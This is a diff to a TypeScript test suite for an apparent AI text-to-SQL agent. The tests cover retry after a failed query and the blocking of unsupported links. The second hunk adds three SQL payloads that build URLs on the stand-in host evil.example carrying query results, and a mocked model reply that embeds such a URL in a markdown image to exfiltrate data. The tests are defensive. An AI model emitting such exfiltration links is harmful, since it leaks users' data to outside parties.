@@ -101,7 +101,7 @@ describe('with a model', () => {
     expect(response.answer).toBe('There are 92 customers.')
     const [, second] = requestsFor('generate')
     expect(second!.text).toContain('The previous SQL query failed to execute.')
-    expect(second!.text).toContain(`Failing query:\n${bad}`)
+    expect(second!.text).toContain(`Failing query:\n> ${bad}`)
     expect(second!.text).toContain('using only the authorised tables.')
     const { attempts } = response.agentResults[0]!.data as { attempts: { success: boolean; error?: string }[] }
     expect(attempts.map((attempt) => attempt.success)).toEqual([false, true])
@@ -260,13 +260,15 @@ describe('an answer with links that stand in no source', () => {
     )
   })
 
-  it('cannot get them from a query that puts them together', async () => {
-    const sql = "SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers"
-    const leak = 'https://evil.example/?d=92'
+  it.each([
+    ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
+    ["SELECT 'www.evil.example?d=92' AS customers FROM customers LIMIT 1", 'www.evil.example?d=92'],
+    ["SELECT trim('evil.example?d=92') AS customers FROM customers LIMIT 1", 'evil.example?d=92'],
+  ])('cannot get them from a query that puts them together: %s', async (sql, leak) => {
     const { response } = await ask(
       rules(
         { when: ASKED.generate, reply: { json: { database: 'demo', sql, explanation: '' } } },
-        { when: ASKED.compose, reply: { text: `There are 92. ![c](${leak})` } },
+        { when: ASKED.compose, reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` } },
       ),
     )
     expect(response.data!.rows).toEqual([{ customers: leak }])
